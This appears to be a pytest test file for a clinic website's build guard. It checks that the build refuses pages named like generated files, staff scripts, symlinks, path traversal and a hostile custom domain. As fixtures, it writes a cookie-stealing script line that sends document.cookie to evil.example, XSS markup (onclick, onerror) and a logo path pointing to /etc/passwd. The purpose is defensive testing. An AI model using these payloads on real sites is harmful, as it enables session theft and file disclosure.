"""Found by a tester after issue 21: names that take the place of the build's own files, and staff
files that are links out of the project.

- A page named like a file (`robots.txt.md`, `index.html.md`, `feed_rss_created.xml.md`,
  `therapists/zip/60.json.md`, a folder `sitemap.xml/`) would publish at an address that looks like
  a file the build writes itself: each is named at its file and left out, in the check and the
  build alike, and nothing is published.
- Whatever else collides with the site's own files (a folder of pictures named `robots.txt/`),
  the post-build stage's failure is one problem in the same words from check and build, never a
  traceback, and the build publishes nothing.
- Every YAML file staff edit is read only when it is really in the project: a link (to a file that
  would otherwise be published) is refused, named, and never followed.
- `docs/CNAME`, GitHub Pages' custom domain, may name only the site's own host: another would send
  every visitor there.
"""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from clinic_site import content_rules, guard, pipeline, published
from clinic_site.problems import ProblemsFound, errors
from clinic_site.project import Project
from devtools.project_copy import copy_project
from tests.harness import build_in_process

PAGE = ("---\ntitle: A page\ndescription: A page named like a file that the build writes itself, which is refused.\n"
        "---\n\nText.\n")
NAMED_LIKE_FILES = ["robots.txt.md", "index.html.md", "feed_rss_created.xml.md", "therapists/zip/60.json.md",
                    "sitemap.xml/index.md"]


def _problems(project: Path, site: Path) -> tuple[list, list]:
    checked = errors(pipeline.check(Project.find(project / "mkdocs.yml"), spelling=False))
    built = build_in_process(project / "mkdocs.yml", site, spelling=False, cards=False)
    assert isinstance(built, ProblemsFound), "the build accepted it"
    assert not list(site.rglob("*.html")), "a failed build publishes nothing"
    return checked, errors(built.problems)


# ---- Cases that share one project: each problem is named at a file of its own case (a page named
# like a file, a script in docs/, the appended snippet, clinic.yml's logo, docs/CNAME), so one check
# and one build name them all (a run names every problem), and
# test_the_shared_cases_are_every_problem_of_their_run shows nothing else is named: no case adds
# a problem another case would be blamed for, and none hides one. A case that stops the engine, or
# makes a settings or people file unreadable, still gets a project of its own (below; a page nested
# too deeply hides the snippet's and docs/CNAME's problems when it shares theirs), except the links
# out of the project, each named at its own file: they share one.

# Names no web address carries as written: a byte that is not UTF-8, a right-to-left override
# (shows "photo\u202egnp.png" as "photopng.g"), a control character in a folder's name; as shown.
UNPUBLISHABLE = {os.fsdecode(b"caf\xe9.md"): "docs/caf\\xe9.md",
                 "guide/photo\u202egnp.png": "docs/guide/photo\\u202egnp.png",
                 "bell\x07folder/page.md": "docs/bell\\u0007folder"}
EVIL = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
SCRIPTS = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
# Compressed files: the guard cannot read inside, and some hosts serve page.html.gz as page.html.
COMPRESSED = ["assets/form.html.gz", "assets/pic.svg.BR", "guide/index.html.zst"]
SNIPPET = "docs/.snippets/abbreviations.md"
SNIPPET_MARKUP = '\n<img src="https://evil.example/x.png" alt="x">\n\n<b onclick="alert(1)">z</b>\n'


@pytest.fixture(scope="module")
def shared(tmp_path_factory) -> dict:
    """One copy with the cases above, its check's and its build's errors; then the same copy with
    every case taken out again, built ("fixed": the run, and the site it published)."""
    root = tmp_path_factory.mktemp("shared")
    project = copy_project(root / "project")
    for name in NAMED_LIKE_FILES:
        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / name).write_text(PAGE, encoding="utf-8")
    for name in SCRIPTS + COMPRESSED:
        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / name).write_text(EVIL, encoding="utf-8")
    snippet = project / SNIPPET
    snippet_text = snippet.read_text(encoding="utf-8")
    snippet.write_text(snippet_text + SNIPPET_MARKUP, encoding="utf-8")
    clinic = project / "clinic.yml"
    clinic_text = clinic.read_text(encoding="utf-8")
    assert "logo: assets/logo.svg" in clinic_text
    clinic.write_text(clinic_text.replace("logo: assets/logo.svg", "logo: ../../../../etc/passwd", 1), encoding="utf-8")
    (project / "docs/CNAME").write_bytes(b"evil.example\n")
    for name in UNPUBLISHABLE:
        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
        (project / "docs" / name).write_text(PAGE, encoding="utf-8")
    checked, built = _problems(project, root / "site")
    # Every case taken out: what the failed build staged must not reach the next build's site.
    for name in NAMED_LIKE_FILES + SCRIPTS + COMPRESSED:
        (project / "docs" / name).unlink()
    (project / "docs/sitemap.xml").rmdir()
    for name in UNPUBLISHABLE:
        (project / "docs" / name).unlink()
    (project / "docs" / "bell\x07folder").rmdir()
    snippet.write_text(snippet_text, encoding="utf-8")
    clinic.write_text(clinic_text, encoding="utf-8")
    (project / "docs/CNAME").write_bytes(b"EXAMPLE.org.\n")   # the site's own host, as staff may write it
    fixed = build_in_process(project / "mkdocs.yml", root / "fixed-site", spelling=False, cards=False)
    return {"project": project, "checked": checked, "built": built, "snippet_lines": len(snippet_text.splitlines()),
            "site": root / "site", "fixed": fixed, "fixed_site": root / "fixed-site"}


@pytest.mark.build
def test_the_shared_cases_are_every_problem_of_their_run(shared):
    """The check and the build name the same errors, in the same order, and they are the cases'
    own: the pages named like files, the scripts, the snippet's two lines, the logo, and the custom
    domain, nothing else."""
    checked = shared["checked"]
    assert [str(problem) for problem in checked] == [str(problem) for problem in shared["built"]]
    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS + COMPRESSED} | \
        {SNIPPET, "clinic.yml", "docs/CNAME"} | set(UNPUBLISHABLE.values())
    assert {problem.path for problem in checked} == cases, checked
    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + len(COMPRESSED) + 2 + 1 + 1 + len(UNPUBLISHABLE), \
        checked
    assert {problem.path for problem in checked if "is a compressed file" in problem.what} == \
        {f"docs/{name}" for name in COMPRESSED}


@pytest.mark.build
def test_a_name_no_address_can_carry_is_named_visibly_and_left_out(shared):
    """A file or folder whose name is not UTF-8 text, or holds a control or invisible formatting
    character, is named once, shown so it can be read and typed (\\xNN, \\uNNNN), and left out;
    every problem of the run prints as UTF-8 text with no control character (it once stopped
    the build with a UnicodeEncodeError naming no file)."""
    named = [problem.path for problem in shared["checked"] if "no web address can carry" in problem.what]
    assert sorted(named) == sorted(UNPUBLISHABLE.values())
    for problem in shared["checked"] + shared["built"]:
        line = str(problem)
        line.encode("utf-8")   # strict: no lone surrogate
        assert all(character in "\t" or character.isprintable() for character in line), line


@pytest.mark.build
def test_pages_named_like_files_are_each_named_and_left_out(shared):
    checked = shared["checked"]
    named = {problem.path for problem in checked if "would look like a file's" in problem.what}
    assert named == {f"docs/{name}" for name in NAMED_LIKE_FILES}, checked
    assert not [problem for problem in checked if "stopped" in problem.what], checked


@pytest.mark.build
def test_no_script_is_published_from_docs_the_sites_own_come_from_the_theme(shared):
    """Staff edit docs/; a script there would run on every page that loads it (a changed
    assets/a11y.js, say). Scripts are the theme's (overrides/assets/, developers only): any file a
    browser runs as script, in docs/ by any name and case, is named and not published."""
    checked = shared["checked"]
    assert {problem.path for problem in checked if "is a script" in problem.what} == {f"docs/{n}" for n in SCRIPTS}
    # Without them, the site's own scripts are the theme's files, as written.
    site, run = shared["fixed_site"], shared["fixed"]
    assert not isinstance(run, ProblemsFound), run
    for script in (shared["project"] / "overrides/assets").glob("*.js"):
        assert (site / "assets" / script.name).read_bytes() == script.read_bytes()
    assert not [file for file in site.rglob("*") if file.is_file() and b"evil.example" in file.read_bytes()]


@pytest.mark.build
def test_what_an_appended_snippet_brings_is_named_once_at_the_snippets_line(shared):
    """docs/.snippets/abbreviations.md is appended to every page: markup refused in it is one
    problem at its own line, not one per page at line 1."""
    lines = shared["snippet_lines"]
    assert [(problem.path, problem.line) for problem in shared["checked"] if problem.path == SNIPPET] == [
        (SNIPPET, lines + 2), (SNIPPET, lines + 4)], shared["checked"]


@pytest.mark.build
def test_a_refused_logo_is_one_problem_and_no_page_links_it(shared):
    [problem] = [problem for problem in shared["checked"] if problem.path == "clinic.yml"]
    assert (problem.path, problem.field) == ("clinic.yml", "logo"), shared["checked"]


# ---- Cases with a project of their own.

@pytest.mark.build
def test_a_folder_named_like_the_builds_own_file_is_one_problem_and_nothing_is_published(linked):
    """The folder docs/robots.txt/ of the `linked` copy (below; _problems asserts nothing was
    published): one problem, at mkdocs.yml, in the same words from check and build."""
    checked = linked["checked"]
    assert [str(problem) for problem in checked] == [str(problem) for problem in linked["built"]]
    [problem] = [problem for problem in checked if problem.path not in LINKED]
    assert problem.path == "mkdocs.yml" and "robots.txt" in problem.what and "rename it" in problem.fix
    assert str(linked["root"]) not in problem.what and "clinic-check-" not in problem.what


LINKED = ["clinic.yml", "docs/blog/.authors.yml", "docs/guide/claims.yml"]


@pytest.fixture(scope="module")
def linked(tmp_path_factory) -> dict:
    """One copy in which each of LINKED is a link to a file outside the project (a copy of its
    own, with a word no problem may show), and docs/ holds a folder named robots.txt; its check's
    and its build's errors. Each link is named at its own file as the stage reads it, and the
    folder at mkdocs.yml once the post-build stage fails on it, so the four share one run."""
    root = tmp_path_factory.mktemp("linked")
    project = copy_project(root / "project")
    for name in LINKED:
        outside = root / f"outside-{name.replace('/', '-')}"
        outside.write_text((project / name).read_text(encoding="utf-8").replace("Riverbend", "Zqxsecret"),
                           encoding="utf-8")
        (project / name).unlink()
        (project / name).symlink_to(outside)
    (project / "docs/robots.txt").mkdir()   # a folder named like the build's own file, below
    (project / "docs/robots.txt/logo.svg").write_bytes((project / "docs/assets/logo.svg").read_bytes())
    checked, built = _problems(project, root / "site")
    return {"checked": checked, "built": built, "root": root}


@pytest.mark.build
@pytest.mark.parametrize("name", LINKED)
def test_a_staff_yaml_file_that_is_a_link_out_of_the_project_is_refused_unread(linked, name):
    checked = linked["checked"]
    assert [str(problem) for problem in checked] == [str(problem) for problem in linked["built"]]
    assert any(problem.path == name and "symbolic link" in problem.what for problem in checked), checked
    assert not any("Zqxsecret" in str(problem) for problem in checked)


@pytest.mark.build
def test_the_linked_files_are_every_problem_of_their_run(linked):
    """Each link is one problem at its own file, the folder one at mkdocs.yml, and nothing else is
    named: none hides another's."""
    assert sorted(problem.path for problem in linked["checked"]) == sorted([*LINKED, "mkdocs.yml"]), linked["checked"]


@pytest.mark.build
def test_markdown_nested_too_deeply_is_named_at_its_page_with_a_fix(tmp_path):
    """Python-Markdown gives up on lists nested 400 deep and on emphasis nested in 1,000 pairs (a
    RecursionError). The stage names the list's page at its first line too deep and leaves it out
    (content_rules.too_deep); the emphasis reaches the engine, whose adapter names its page and
    builds it empty (engines/mkdocs/deep_pages.py, engines/zensical/deep_pages.py); either way the
    run goes on: what only the post-build stage names, an attribute the allowlist removed from a
    third page, is named in the same run, by the check and the build alike, and by the Zensical
    build (it was not when the engine stopped: Zensical named only mkdocs.yml)."""
    project = copy_project(tmp_path / "project")
    deep = "".join("    " * level + "- a\n" for level in range(400))
    (project / "docs/deep.md").write_text(PAGE + "\n" + deep, encoding="utf-8")
    emphasis = "*a " * 1000 + "b" + " c*" * 1000
    (project / "docs/emphasis.md").write_text(PAGE + "\n" + emphasis + "\n", encoding="utf-8")
    (project / "docs/handler.md").write_text(PAGE + '\nHello <img src="x.png" onerror="alert(1)"> there.\n',
                                             encoding="utf-8")
    checked, built = _problems(project, tmp_path / "site")
    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
    named = {(problem.path, problem.line) for problem in checked
             if "nests lists" in problem.what and "flatten" in problem.fix}
    # PAGE is 6 lines, then a blank one: the list's level 41 is on line 8 + 41
    assert named == {("docs/deep.md", 8 + content_rules.MAX_NESTING + 1), ("docs/emphasis.md", 1)}, checked
    assert any(problem.path == "docs/handler.md" and problem.line == 8 and "onerror=" in problem.what
               for problem in checked), checked
    zensical = build_in_process(project / "mkdocs.yml", tmp_path / "zensical-site", engine="zensical",
                                spelling=False, cards=False)
    assert isinstance(zensical, ProblemsFound), "the Zensical build accepted it"
    on_zensical = errors(zensical.problems)
    assert {(problem.path, problem.line) for problem in on_zensical if "nests lists" in problem.what} == named, \
        on_zensical
    assert any(problem.path == "docs/handler.md" and problem.line == 8 and "onerror=" in problem.what
               for problem in on_zensical), on_zensical


@pytest.mark.parametrize("body, line", [
    ("".join("    " * level + "- a\n" for level in range(41)), None),                  # 40 levels below the first
    ("".join("    " * level + "- a\n" for level in range(42)), 42),
    ("".join("\t" * level + "- a\n" for level in range(42)), 42),                      # a tab is 4 columns
    ("> " * 41 + "a\n", 1), ("> " * 40 + "a\n", None), (">" * 41 + "a\n", 1),         # each > a level
    ("> " * 20 + "    " * 21 + "- a\n", 1), ("> " * 20 + "    " * 20 + "- a\n", None),
    ("```\n" + " " * 400 + "code\n```\n", None),                                    # fenced code is code
    ("~~~~\n```\n" + " " * 400 + "code\n~~~~\ntext\n" + " " * 400 + "- a\n", 6),   # fences close by their kind
    ("> ```\n> " + " " * 400 + "code\n> ```\n", None),
    ("```\nnever closed\n" + " " * 400 + "x\n", None),
])
def test_too_deep_counts_indentation_and_quotes_outside_fenced_code(body, line):
    assert content_rules.too_deep(body) == line
@pytest.mark.parametrize("data, accepted", [
    (b"example.org\n", True), (b"EXAMPLE.org.\n", True), (b"  example.org  \n", True), (b"example.org", True),
    (b"evil.example\n", False), (b"example.org\nevil.example\n", False), (b"\xff\xfeexample.org", False),
    (b"www.example.org\n", False), (b"example.org.evil.example\n", False), (b"example.org:8080\n", False),
    (b"", False), (b"https://example.org/\n", False), (b"example.org\r\nevil.example\n", False),
])
def test_the_custom_domain_file_may_name_only_the_sites_own_host(data, accepted):
    """docs/CNAME is GitHub Pages' custom domain: GitHub sends every visitor of the site to the
    domain it names. Only the host of site_url passes (any letter case, a final dot, spaces around
    it); another host, a subdomain, a port, an address, a second line, an empty file or bytes that
    are not UTF-8 are one problem at the file's line 1, saying what it names and the fix."""
    output_guard = guard.OutputGuard(guard.SiteCode(host="example.org"), {}, [], {})
    output_guard.custom_domain("CNAME", published.decode(data)[0], "docs/CNAME")
    found = output_guard.problems()
    if accepted:
        assert found == []
        return
    [problem] = found
    assert (problem.path, problem.line) == ("docs/CNAME", 1), problem
    assert "custom domain" in problem.what and "'example.org'" in problem.what and "site_url" in problem.what
    assert "on one line" in problem.fix, problem


@pytest.mark.build
def test_the_custom_domain_rule_stops_the_check_and_the_build_alike(shared):
    """The rule above, wired into every run: a CNAME naming another host is named by the check and
    the build in the same words and nothing is published; the site's own host is published as written."""
    [problem] = [problem for problem in shared["checked"] if problem.path == "docs/CNAME"]
    assert problem.line == 1 and "'evil.example'" in problem.what, problem
    assert [str(p) for p in shared["built"] if p.path == "docs/CNAME"] == [str(problem)]
    assert not (shared["site"] / "CNAME").exists()
    assert not isinstance(shared["fixed"], ProblemsFound), shared["fixed"]
    assert (shared["fixed_site"] / "CNAME").read_bytes() == b"EXAMPLE.org.\n"
